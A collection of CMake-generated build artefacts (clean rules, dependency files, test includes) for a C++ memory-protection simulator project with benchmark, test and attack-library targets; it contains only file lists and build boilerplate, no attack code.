  include(CMakeFiles/ablation_tlb_geometry.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
