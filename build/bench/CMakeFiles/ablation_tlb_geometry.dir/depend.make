# Empty dependencies file for ablation_tlb_geometry.
# This may be replaced when dependencies are built.
