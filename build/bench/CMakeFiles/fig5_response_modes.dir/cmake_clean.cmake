file(REMOVE_RECURSE
  "CMakeFiles/fig5_response_modes.dir/fig5_response_modes.cc.o"
  "CMakeFiles/fig5_response_modes.dir/fig5_response_modes.cc.o.d"
  "fig5_response_modes"
  "fig5_response_modes.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig5_response_modes.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
