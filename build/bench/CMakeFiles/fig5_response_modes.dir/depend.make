# Empty dependencies file for fig5_response_modes.
# This may be replaced when dependencies are built.
