file(REMOVE_RECURSE
  "CMakeFiles/fig6_normalized.dir/fig6_normalized.cc.o"
  "CMakeFiles/fig6_normalized.dir/fig6_normalized.cc.o.d"
  "fig6_normalized"
  "fig6_normalized.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig6_normalized.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
