# Empty compiler generated dependencies file for fig6_normalized.
# This may be replaced when dependencies are built.
