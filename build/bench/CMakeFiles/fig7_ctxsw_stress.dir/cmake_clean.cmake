file(REMOVE_RECURSE
  "CMakeFiles/fig7_ctxsw_stress.dir/fig7_ctxsw_stress.cc.o"
  "CMakeFiles/fig7_ctxsw_stress.dir/fig7_ctxsw_stress.cc.o.d"
  "fig7_ctxsw_stress"
  "fig7_ctxsw_stress.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig7_ctxsw_stress.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
