# Empty dependencies file for fig7_ctxsw_stress.
# This may be replaced when dependencies are built.
