file(REMOVE_RECURSE
  "CMakeFiles/fig8_apache_pagesize.dir/fig8_apache_pagesize.cc.o"
  "CMakeFiles/fig8_apache_pagesize.dir/fig8_apache_pagesize.cc.o.d"
  "fig8_apache_pagesize"
  "fig8_apache_pagesize.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig8_apache_pagesize.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
