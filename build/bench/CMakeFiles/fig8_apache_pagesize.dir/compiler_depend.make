# Empty compiler generated dependencies file for fig8_apache_pagesize.
# This may be replaced when dependencies are built.
