file(REMOVE_RECURSE
  "CMakeFiles/fig9_split_fraction.dir/fig9_split_fraction.cc.o"
  "CMakeFiles/fig9_split_fraction.dir/fig9_split_fraction.cc.o.d"
  "fig9_split_fraction"
  "fig9_split_fraction.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig9_split_fraction.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
