# Empty dependencies file for fig9_split_fraction.
# This may be replaced when dependencies are built.
