file(REMOVE_RECURSE
  "CMakeFiles/table1_wilander.dir/table1_wilander.cc.o"
  "CMakeFiles/table1_wilander.dir/table1_wilander.cc.o.d"
  "table1_wilander"
  "table1_wilander.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table1_wilander.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
