# Empty compiler generated dependencies file for table1_wilander.
# This may be replaced when dependencies are built.
