file(REMOVE_RECURSE
  "CMakeFiles/table2_realworld.dir/table2_realworld.cc.o"
  "CMakeFiles/table2_realworld.dir/table2_realworld.cc.o.d"
  "table2_realworld"
  "table2_realworld.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table2_realworld.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
