# Empty compiler generated dependencies file for table2_realworld.
# This may be replaced when dependencies are built.
