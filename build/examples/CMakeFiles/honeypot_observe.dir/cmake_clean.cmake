file(REMOVE_RECURSE
  "CMakeFiles/honeypot_observe.dir/honeypot_observe.cpp.o"
  "CMakeFiles/honeypot_observe.dir/honeypot_observe.cpp.o.d"
  "honeypot_observe"
  "honeypot_observe.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/honeypot_observe.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
