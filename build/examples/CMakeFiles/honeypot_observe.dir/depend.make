# Empty dependencies file for honeypot_observe.
# This may be replaced when dependencies are built.
