file(REMOVE_RECURSE
  "CMakeFiles/mixed_pages.dir/mixed_pages.cpp.o"
  "CMakeFiles/mixed_pages.dir/mixed_pages.cpp.o.d"
  "mixed_pages"
  "mixed_pages.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mixed_pages.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
