# Empty compiler generated dependencies file for mixed_pages.
# This may be replaced when dependencies are built.
