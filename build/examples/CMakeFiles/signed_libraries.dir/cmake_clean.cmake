file(REMOVE_RECURSE
  "CMakeFiles/signed_libraries.dir/signed_libraries.cpp.o"
  "CMakeFiles/signed_libraries.dir/signed_libraries.cpp.o.d"
  "signed_libraries"
  "signed_libraries.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/signed_libraries.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
