# Empty dependencies file for signed_libraries.
# This may be replaced when dependencies are built.
