
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/arch/cpu.cc" "src/arch/CMakeFiles/sm_arch.dir/cpu.cc.o" "gcc" "src/arch/CMakeFiles/sm_arch.dir/cpu.cc.o.d"
  "/root/repo/src/arch/mmu.cc" "src/arch/CMakeFiles/sm_arch.dir/mmu.cc.o" "gcc" "src/arch/CMakeFiles/sm_arch.dir/mmu.cc.o.d"
  "/root/repo/src/arch/page_table.cc" "src/arch/CMakeFiles/sm_arch.dir/page_table.cc.o" "gcc" "src/arch/CMakeFiles/sm_arch.dir/page_table.cc.o.d"
  "/root/repo/src/arch/phys_mem.cc" "src/arch/CMakeFiles/sm_arch.dir/phys_mem.cc.o" "gcc" "src/arch/CMakeFiles/sm_arch.dir/phys_mem.cc.o.d"
  "/root/repo/src/arch/tlb.cc" "src/arch/CMakeFiles/sm_arch.dir/tlb.cc.o" "gcc" "src/arch/CMakeFiles/sm_arch.dir/tlb.cc.o.d"
  "/root/repo/src/arch/trap.cc" "src/arch/CMakeFiles/sm_arch.dir/trap.cc.o" "gcc" "src/arch/CMakeFiles/sm_arch.dir/trap.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/metrics/CMakeFiles/sm_metrics.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
