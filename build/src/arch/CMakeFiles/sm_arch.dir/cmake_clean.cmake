file(REMOVE_RECURSE
  "CMakeFiles/sm_arch.dir/cpu.cc.o"
  "CMakeFiles/sm_arch.dir/cpu.cc.o.d"
  "CMakeFiles/sm_arch.dir/mmu.cc.o"
  "CMakeFiles/sm_arch.dir/mmu.cc.o.d"
  "CMakeFiles/sm_arch.dir/page_table.cc.o"
  "CMakeFiles/sm_arch.dir/page_table.cc.o.d"
  "CMakeFiles/sm_arch.dir/phys_mem.cc.o"
  "CMakeFiles/sm_arch.dir/phys_mem.cc.o.d"
  "CMakeFiles/sm_arch.dir/tlb.cc.o"
  "CMakeFiles/sm_arch.dir/tlb.cc.o.d"
  "CMakeFiles/sm_arch.dir/trap.cc.o"
  "CMakeFiles/sm_arch.dir/trap.cc.o.d"
  "libsm_arch.a"
  "libsm_arch.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_arch.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
