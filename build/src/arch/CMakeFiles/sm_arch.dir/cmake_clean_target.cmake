file(REMOVE_RECURSE
  "libsm_arch.a"
)
