# Empty compiler generated dependencies file for sm_arch.
# This may be replaced when dependencies are built.
