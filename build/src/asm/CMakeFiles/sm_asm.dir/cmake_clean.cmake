file(REMOVE_RECURSE
  "CMakeFiles/sm_asm.dir/assembler.cc.o"
  "CMakeFiles/sm_asm.dir/assembler.cc.o.d"
  "CMakeFiles/sm_asm.dir/disassembler.cc.o"
  "CMakeFiles/sm_asm.dir/disassembler.cc.o.d"
  "libsm_asm.a"
  "libsm_asm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_asm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
