file(REMOVE_RECURSE
  "libsm_asm.a"
)
