# Empty dependencies file for sm_asm.
# This may be replaced when dependencies are built.
