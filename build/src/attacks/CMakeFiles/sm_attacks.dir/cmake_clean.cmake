file(REMOVE_RECURSE
  "CMakeFiles/sm_attacks.dir/nx_bypass.cc.o"
  "CMakeFiles/sm_attacks.dir/nx_bypass.cc.o.d"
  "CMakeFiles/sm_attacks.dir/realworld.cc.o"
  "CMakeFiles/sm_attacks.dir/realworld.cc.o.d"
  "CMakeFiles/sm_attacks.dir/shellcode.cc.o"
  "CMakeFiles/sm_attacks.dir/shellcode.cc.o.d"
  "CMakeFiles/sm_attacks.dir/wilander.cc.o"
  "CMakeFiles/sm_attacks.dir/wilander.cc.o.d"
  "libsm_attacks.a"
  "libsm_attacks.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_attacks.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
