file(REMOVE_RECURSE
  "libsm_attacks.a"
)
