# Empty dependencies file for sm_attacks.
# This may be replaced when dependencies are built.
