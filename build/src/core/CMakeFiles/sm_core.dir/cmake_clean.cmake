file(REMOVE_RECURSE
  "CMakeFiles/sm_core.dir/sebek.cc.o"
  "CMakeFiles/sm_core.dir/sebek.cc.o.d"
  "CMakeFiles/sm_core.dir/split_engine.cc.o"
  "CMakeFiles/sm_core.dir/split_engine.cc.o.d"
  "libsm_core.a"
  "libsm_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
