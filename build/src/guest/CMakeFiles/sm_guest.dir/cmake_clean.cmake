file(REMOVE_RECURSE
  "CMakeFiles/sm_guest.dir/guestlib.cc.o"
  "CMakeFiles/sm_guest.dir/guestlib.cc.o.d"
  "libsm_guest.a"
  "libsm_guest.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_guest.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
