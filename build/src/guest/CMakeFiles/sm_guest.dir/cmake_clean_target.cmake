file(REMOVE_RECURSE
  "libsm_guest.a"
)
