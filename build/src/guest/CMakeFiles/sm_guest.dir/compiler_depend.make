# Empty compiler generated dependencies file for sm_guest.
# This may be replaced when dependencies are built.
