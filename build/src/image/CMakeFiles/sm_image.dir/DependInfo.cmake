
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/image/image.cc" "src/image/CMakeFiles/sm_image.dir/image.cc.o" "gcc" "src/image/CMakeFiles/sm_image.dir/image.cc.o.d"
  "/root/repo/src/image/sha256.cc" "src/image/CMakeFiles/sm_image.dir/sha256.cc.o" "gcc" "src/image/CMakeFiles/sm_image.dir/sha256.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/arch/CMakeFiles/sm_arch.dir/DependInfo.cmake"
  "/root/repo/build/src/asm/CMakeFiles/sm_asm.dir/DependInfo.cmake"
  "/root/repo/build/src/metrics/CMakeFiles/sm_metrics.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
