file(REMOVE_RECURSE
  "CMakeFiles/sm_image.dir/image.cc.o"
  "CMakeFiles/sm_image.dir/image.cc.o.d"
  "CMakeFiles/sm_image.dir/sha256.cc.o"
  "CMakeFiles/sm_image.dir/sha256.cc.o.d"
  "libsm_image.a"
  "libsm_image.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_image.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
