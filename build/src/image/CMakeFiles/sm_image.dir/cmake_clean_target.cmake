file(REMOVE_RECURSE
  "libsm_image.a"
)
