# Empty compiler generated dependencies file for sm_image.
# This may be replaced when dependencies are built.
