
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/kernel/address_space.cc" "src/kernel/CMakeFiles/sm_kernel.dir/address_space.cc.o" "gcc" "src/kernel/CMakeFiles/sm_kernel.dir/address_space.cc.o.d"
  "/root/repo/src/kernel/channel.cc" "src/kernel/CMakeFiles/sm_kernel.dir/channel.cc.o" "gcc" "src/kernel/CMakeFiles/sm_kernel.dir/channel.cc.o.d"
  "/root/repo/src/kernel/filesystem.cc" "src/kernel/CMakeFiles/sm_kernel.dir/filesystem.cc.o" "gcc" "src/kernel/CMakeFiles/sm_kernel.dir/filesystem.cc.o.d"
  "/root/repo/src/kernel/guest_mem.cc" "src/kernel/CMakeFiles/sm_kernel.dir/guest_mem.cc.o" "gcc" "src/kernel/CMakeFiles/sm_kernel.dir/guest_mem.cc.o.d"
  "/root/repo/src/kernel/kernel.cc" "src/kernel/CMakeFiles/sm_kernel.dir/kernel.cc.o" "gcc" "src/kernel/CMakeFiles/sm_kernel.dir/kernel.cc.o.d"
  "/root/repo/src/kernel/process.cc" "src/kernel/CMakeFiles/sm_kernel.dir/process.cc.o" "gcc" "src/kernel/CMakeFiles/sm_kernel.dir/process.cc.o.d"
  "/root/repo/src/kernel/syscall_defs.cc" "src/kernel/CMakeFiles/sm_kernel.dir/syscall_defs.cc.o" "gcc" "src/kernel/CMakeFiles/sm_kernel.dir/syscall_defs.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/arch/CMakeFiles/sm_arch.dir/DependInfo.cmake"
  "/root/repo/build/src/image/CMakeFiles/sm_image.dir/DependInfo.cmake"
  "/root/repo/build/src/metrics/CMakeFiles/sm_metrics.dir/DependInfo.cmake"
  "/root/repo/build/src/asm/CMakeFiles/sm_asm.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
