file(REMOVE_RECURSE
  "CMakeFiles/sm_kernel.dir/address_space.cc.o"
  "CMakeFiles/sm_kernel.dir/address_space.cc.o.d"
  "CMakeFiles/sm_kernel.dir/channel.cc.o"
  "CMakeFiles/sm_kernel.dir/channel.cc.o.d"
  "CMakeFiles/sm_kernel.dir/filesystem.cc.o"
  "CMakeFiles/sm_kernel.dir/filesystem.cc.o.d"
  "CMakeFiles/sm_kernel.dir/guest_mem.cc.o"
  "CMakeFiles/sm_kernel.dir/guest_mem.cc.o.d"
  "CMakeFiles/sm_kernel.dir/kernel.cc.o"
  "CMakeFiles/sm_kernel.dir/kernel.cc.o.d"
  "CMakeFiles/sm_kernel.dir/process.cc.o"
  "CMakeFiles/sm_kernel.dir/process.cc.o.d"
  "CMakeFiles/sm_kernel.dir/syscall_defs.cc.o"
  "CMakeFiles/sm_kernel.dir/syscall_defs.cc.o.d"
  "libsm_kernel.a"
  "libsm_kernel.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_kernel.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
