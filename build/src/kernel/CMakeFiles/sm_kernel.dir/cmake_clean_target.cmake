file(REMOVE_RECURSE
  "libsm_kernel.a"
)
