# Empty compiler generated dependencies file for sm_kernel.
# This may be replaced when dependencies are built.
