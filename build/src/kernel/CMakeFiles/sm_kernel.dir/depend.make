# Empty dependencies file for sm_kernel.
# This may be replaced when dependencies are built.
