file(REMOVE_RECURSE
  "CMakeFiles/sm_metrics.dir/cost_model.cc.o"
  "CMakeFiles/sm_metrics.dir/cost_model.cc.o.d"
  "CMakeFiles/sm_metrics.dir/stats.cc.o"
  "CMakeFiles/sm_metrics.dir/stats.cc.o.d"
  "libsm_metrics.a"
  "libsm_metrics.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_metrics.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
