file(REMOVE_RECURSE
  "libsm_metrics.a"
)
