# Empty compiler generated dependencies file for sm_metrics.
# This may be replaced when dependencies are built.
