file(REMOVE_RECURSE
  "CMakeFiles/sm_workloads.dir/common.cc.o"
  "CMakeFiles/sm_workloads.dir/common.cc.o.d"
  "CMakeFiles/sm_workloads.dir/compute.cc.o"
  "CMakeFiles/sm_workloads.dir/compute.cc.o.d"
  "CMakeFiles/sm_workloads.dir/unixbench.cc.o"
  "CMakeFiles/sm_workloads.dir/unixbench.cc.o.d"
  "CMakeFiles/sm_workloads.dir/webserver.cc.o"
  "CMakeFiles/sm_workloads.dir/webserver.cc.o.d"
  "libsm_workloads.a"
  "libsm_workloads.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sm_workloads.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
