file(REMOVE_RECURSE
  "libsm_workloads.a"
)
