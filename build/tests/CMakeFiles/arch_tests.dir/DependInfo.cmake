
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/arch/cpu_test.cc" "tests/CMakeFiles/arch_tests.dir/arch/cpu_test.cc.o" "gcc" "tests/CMakeFiles/arch_tests.dir/arch/cpu_test.cc.o.d"
  "/root/repo/tests/arch/isa_coverage_test.cc" "tests/CMakeFiles/arch_tests.dir/arch/isa_coverage_test.cc.o" "gcc" "tests/CMakeFiles/arch_tests.dir/arch/isa_coverage_test.cc.o.d"
  "/root/repo/tests/arch/mmu_test.cc" "tests/CMakeFiles/arch_tests.dir/arch/mmu_test.cc.o" "gcc" "tests/CMakeFiles/arch_tests.dir/arch/mmu_test.cc.o.d"
  "/root/repo/tests/arch/page_table_test.cc" "tests/CMakeFiles/arch_tests.dir/arch/page_table_test.cc.o" "gcc" "tests/CMakeFiles/arch_tests.dir/arch/page_table_test.cc.o.d"
  "/root/repo/tests/arch/phys_mem_test.cc" "tests/CMakeFiles/arch_tests.dir/arch/phys_mem_test.cc.o" "gcc" "tests/CMakeFiles/arch_tests.dir/arch/phys_mem_test.cc.o.d"
  "/root/repo/tests/arch/tlb_test.cc" "tests/CMakeFiles/arch_tests.dir/arch/tlb_test.cc.o" "gcc" "tests/CMakeFiles/arch_tests.dir/arch/tlb_test.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/attacks/CMakeFiles/sm_attacks.dir/DependInfo.cmake"
  "/root/repo/build/src/workloads/CMakeFiles/sm_workloads.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/sm_core.dir/DependInfo.cmake"
  "/root/repo/build/src/guest/CMakeFiles/sm_guest.dir/DependInfo.cmake"
  "/root/repo/build/src/kernel/CMakeFiles/sm_kernel.dir/DependInfo.cmake"
  "/root/repo/build/src/image/CMakeFiles/sm_image.dir/DependInfo.cmake"
  "/root/repo/build/src/asm/CMakeFiles/sm_asm.dir/DependInfo.cmake"
  "/root/repo/build/src/arch/CMakeFiles/sm_arch.dir/DependInfo.cmake"
  "/root/repo/build/src/metrics/CMakeFiles/sm_metrics.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
