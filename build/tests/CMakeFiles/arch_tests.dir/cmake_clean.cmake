file(REMOVE_RECURSE
  "CMakeFiles/arch_tests.dir/arch/cpu_test.cc.o"
  "CMakeFiles/arch_tests.dir/arch/cpu_test.cc.o.d"
  "CMakeFiles/arch_tests.dir/arch/isa_coverage_test.cc.o"
  "CMakeFiles/arch_tests.dir/arch/isa_coverage_test.cc.o.d"
  "CMakeFiles/arch_tests.dir/arch/mmu_test.cc.o"
  "CMakeFiles/arch_tests.dir/arch/mmu_test.cc.o.d"
  "CMakeFiles/arch_tests.dir/arch/page_table_test.cc.o"
  "CMakeFiles/arch_tests.dir/arch/page_table_test.cc.o.d"
  "CMakeFiles/arch_tests.dir/arch/phys_mem_test.cc.o"
  "CMakeFiles/arch_tests.dir/arch/phys_mem_test.cc.o.d"
  "CMakeFiles/arch_tests.dir/arch/tlb_test.cc.o"
  "CMakeFiles/arch_tests.dir/arch/tlb_test.cc.o.d"
  "arch_tests"
  "arch_tests.pdb"
  "arch_tests[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/arch_tests.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
