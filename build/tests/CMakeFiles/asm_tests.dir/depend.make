# Empty dependencies file for asm_tests.
# This may be replaced when dependencies are built.
