file(REMOVE_RECURSE
  "CMakeFiles/attacks_tests.dir/attacks/combined_mode_test.cc.o"
  "CMakeFiles/attacks_tests.dir/attacks/combined_mode_test.cc.o.d"
  "CMakeFiles/attacks_tests.dir/attacks/nx_bypass_test.cc.o"
  "CMakeFiles/attacks_tests.dir/attacks/nx_bypass_test.cc.o.d"
  "CMakeFiles/attacks_tests.dir/attacks/realworld_test.cc.o"
  "CMakeFiles/attacks_tests.dir/attacks/realworld_test.cc.o.d"
  "CMakeFiles/attacks_tests.dir/attacks/wilander_test.cc.o"
  "CMakeFiles/attacks_tests.dir/attacks/wilander_test.cc.o.d"
  "attacks_tests"
  "attacks_tests.pdb"
  "attacks_tests[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attacks_tests.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
