file(REMOVE_RECURSE
  "CMakeFiles/extension_tests.dir/core/extensions_test.cc.o"
  "CMakeFiles/extension_tests.dir/core/extensions_test.cc.o.d"
  "CMakeFiles/extension_tests.dir/core/pageexec_test.cc.o"
  "CMakeFiles/extension_tests.dir/core/pageexec_test.cc.o.d"
  "CMakeFiles/extension_tests.dir/core/straddle_test.cc.o"
  "CMakeFiles/extension_tests.dir/core/straddle_test.cc.o.d"
  "extension_tests"
  "extension_tests.pdb"
  "extension_tests[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/extension_tests.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
