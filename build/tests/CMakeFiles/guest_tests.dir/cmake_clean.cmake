file(REMOVE_RECURSE
  "CMakeFiles/guest_tests.dir/guest/guestlib_test.cc.o"
  "CMakeFiles/guest_tests.dir/guest/guestlib_test.cc.o.d"
  "guest_tests"
  "guest_tests.pdb"
  "guest_tests[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/guest_tests.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
