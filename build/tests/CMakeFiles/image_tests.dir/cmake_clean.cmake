file(REMOVE_RECURSE
  "CMakeFiles/image_tests.dir/image/image_test.cc.o"
  "CMakeFiles/image_tests.dir/image/image_test.cc.o.d"
  "CMakeFiles/image_tests.dir/image/sha256_test.cc.o"
  "CMakeFiles/image_tests.dir/image/sha256_test.cc.o.d"
  "image_tests"
  "image_tests.pdb"
  "image_tests[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/image_tests.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
