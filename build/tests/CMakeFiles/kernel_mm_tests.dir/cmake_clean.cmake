file(REMOVE_RECURSE
  "CMakeFiles/kernel_mm_tests.dir/kernel/address_space_test.cc.o"
  "CMakeFiles/kernel_mm_tests.dir/kernel/address_space_test.cc.o.d"
  "CMakeFiles/kernel_mm_tests.dir/kernel/fork_cow_test.cc.o"
  "CMakeFiles/kernel_mm_tests.dir/kernel/fork_cow_test.cc.o.d"
  "CMakeFiles/kernel_mm_tests.dir/kernel/mm_test.cc.o"
  "CMakeFiles/kernel_mm_tests.dir/kernel/mm_test.cc.o.d"
  "CMakeFiles/kernel_mm_tests.dir/kernel/pipes_test.cc.o"
  "CMakeFiles/kernel_mm_tests.dir/kernel/pipes_test.cc.o.d"
  "kernel_mm_tests"
  "kernel_mm_tests.pdb"
  "kernel_mm_tests[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/kernel_mm_tests.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
