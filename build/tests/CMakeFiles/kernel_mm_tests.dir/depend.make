# Empty dependencies file for kernel_mm_tests.
# This may be replaced when dependencies are built.
