file(REMOVE_RECURSE
  "CMakeFiles/syscall_tests.dir/kernel/channel_fs_test.cc.o"
  "CMakeFiles/syscall_tests.dir/kernel/channel_fs_test.cc.o.d"
  "CMakeFiles/syscall_tests.dir/kernel/dlopen_test.cc.o"
  "CMakeFiles/syscall_tests.dir/kernel/dlopen_test.cc.o.d"
  "CMakeFiles/syscall_tests.dir/kernel/syscalls_test.cc.o"
  "CMakeFiles/syscall_tests.dir/kernel/syscalls_test.cc.o.d"
  "syscall_tests"
  "syscall_tests.pdb"
  "syscall_tests[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/syscall_tests.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
