# Empty dependencies file for syscall_tests.
# This may be replaced when dependencies are built.
