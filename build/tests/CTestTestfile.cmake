# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/arch_tests[1]_include.cmake")
include("/root/repo/build/tests/asm_tests[1]_include.cmake")
include("/root/repo/build/tests/image_tests[1]_include.cmake")
include("/root/repo/build/tests/kernel_tests[1]_include.cmake")
include("/root/repo/build/tests/core_tests[1]_include.cmake")
include("/root/repo/build/tests/attacks_tests[1]_include.cmake")
include("/root/repo/build/tests/kernel_mm_tests[1]_include.cmake")
include("/root/repo/build/tests/guest_tests[1]_include.cmake")
include("/root/repo/build/tests/property_tests[1]_include.cmake")
include("/root/repo/build/tests/extension_tests[1]_include.cmake")
include("/root/repo/build/tests/syscall_tests[1]_include.cmake")
include("/root/repo/build/tests/workload_tests[1]_include.cmake")
include("/root/repo/build/tests/metrics_tests[1]_include.cmake")
