file(REMOVE_RECURSE
  "CMakeFiles/smattack.dir/smattack.cc.o"
  "CMakeFiles/smattack.dir/smattack.cc.o.d"
  "smattack"
  "smattack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/smattack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
