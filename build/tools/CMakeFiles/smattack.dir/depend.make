# Empty dependencies file for smattack.
# This may be replaced when dependencies are built.
