file(REMOVE_RECURSE
  "CMakeFiles/smdis.dir/smdis.cc.o"
  "CMakeFiles/smdis.dir/smdis.cc.o.d"
  "smdis"
  "smdis.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/smdis.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
