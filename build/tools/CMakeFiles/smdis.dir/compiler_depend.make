# Empty compiler generated dependencies file for smdis.
# This may be replaced when dependencies are built.
