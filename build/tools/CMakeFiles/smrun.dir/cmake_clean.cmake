file(REMOVE_RECURSE
  "CMakeFiles/smrun.dir/smrun.cc.o"
  "CMakeFiles/smrun.dir/smrun.cc.o.d"
  "smrun"
  "smrun.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/smrun.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
