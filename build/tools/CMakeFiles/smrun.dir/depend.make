# Empty dependencies file for smrun.
# This may be replaced when dependencies are built.
