# SMP opt-in regression for the bench binaries.
#
# Runs BENCH twice — once without the flag and once with `--cores=1` —
# and fails unless both exit codes and every byte of stdout match. The
# contract (DESIGN.md §16): SMP is opt-in, and single-core output is the
# historical pre-SMP output, bit for bit. Figure benches are single-core
# by definition (their workloads pin one core); server_load additionally
# wires --cores through, so this leg proves the flag's 1-core path and
# the default path share every simulated number.
#
# Usage:
#   cmake -DBENCH=<path> -DWORK_DIR=<dir>
#         [-DEXTRA_ARGS=<arg;arg;...>] -P CoresIdentityCheck.cmake
if(NOT DEFINED BENCH OR NOT DEFINED WORK_DIR)
  message(FATAL_ERROR "CoresIdentityCheck: BENCH and WORK_DIR required")
endif()
